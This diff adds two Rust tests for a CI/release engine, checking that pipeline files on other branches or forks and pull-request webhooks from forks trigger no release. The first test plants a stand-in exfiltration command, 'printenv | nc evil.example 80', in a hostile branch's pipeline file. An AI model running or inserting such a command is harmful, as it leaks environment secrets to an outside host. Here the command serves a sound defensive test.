@@ -2,6 +2,51 @@
 
 use crate::support::{Place, SECRET, answer};
 
+/// The pipeline file of another branch, of a pull request or of a fork says what its author likes. None of it counts: what a
+/// release does stands at the commit of the branch that the pipeline follows (IB8).
+#[tokio::test(flavor = "multi_thread")]
+async fn abuse_01_a_pipeline_file_on_another_branch_or_fork_runs_nothing() {
+    let place = Place::open().await;
+    place.repository.git(&["checkout", "-q", "-b", "evil"]);
+    place.repository.write(".tidegate/pipeline.yaml", &crate::support::PIPELINE.replace("run: make", "run: printenv | nc evil.example 80"));
+    let evil = place.repository.commit("a harmless change");
+    let url = place.repository.url();
+    let fork = "https://github.com/evil/orders.git";
+    for (event, body) in [
+        ("push", format!("{{\"ref\":\"refs/heads/evil\",\"after\":\"{evil}\",\"repository\":{{\"clone_url\":\"{url}\"}}}}")),
+        ("create", format!("{{\"ref\":\"evil\",\"ref_type\":\"branch\",\"repository\":{{\"clone_url\":\"{url}\"}}}}")),
+        ("push", format!("{{\"ref\":\"refs/heads/main\",\"after\":\"{evil}\",\"repository\":{{\"clone_url\":\"{fork}\"}}}}")),
+    ] {
+        assert_eq!(answer(place.sender.github(event, &format!("evil-{event}-{}", body.len()), body.as_bytes()).await).await.0, 202);
+    }
+    place.until_quiet().await;
+    assert!(!place.commits().await.contains(&evil), "no release of it");
+    let start =
+        engine::Start { key: "by hand".to_owned(), commit: Some(evil.clone()), inputs: Default::default(), trigger: "manual".to_owned() };
+    let error =
+        place.world.engine.start(&place.pipeline, engine::core::Actor::Engine, start).await.expect_err("not a commit of the branch");
+    assert!(error.to_string().contains(&evil), "{error}");
+}
+
+/// What comes with a pull request of a fork (its Makefile, its tests) is never run: no pull request is followed (D6).
+#[tokio::test(flavor = "multi_thread")]
+async fn abuse_02_a_pull_request_of_a_fork_runs_nothing() {
+    let place = Place::open().await;
+    for action in ["opened", "synchronize", "reopened", "edited", "labeled", "ready_for_review", "closed"] {
+        let body = serde_json::json!({
+            "action": action,
+            "number": 1,
+            "pull_request": {"merged": false, "head": {"ref": "main", "sha": "ffffffffffffffffffffffffffffffffffffffff", "repo": {"fork": true, "clone_url": "https://github.com/evil/orders.git"}}},
+            "repository": {"clone_url": place.repository.url()},
+        });
+        let (status, taken) =
+            answer(place.sender.github("pull_request", &format!("pull-{action}"), body.to_string().as_bytes()).await).await;
+        assert_eq!((status, taken["outcome"].as_str()), (202, Some("ignored")), "{action}: {taken}");
+    }
+    place.until_quiet().await;
+    assert_eq!(place.commits().await.len(), 1);
+}
+
 /// A push that names a commit, an author and a pusher of the attacker's choice, rightly signed (a leaked secret, or a
 /// replay): nothing of that counts, only what the repository answers.
 #[tokio::test(flavor = "multi_thread")]
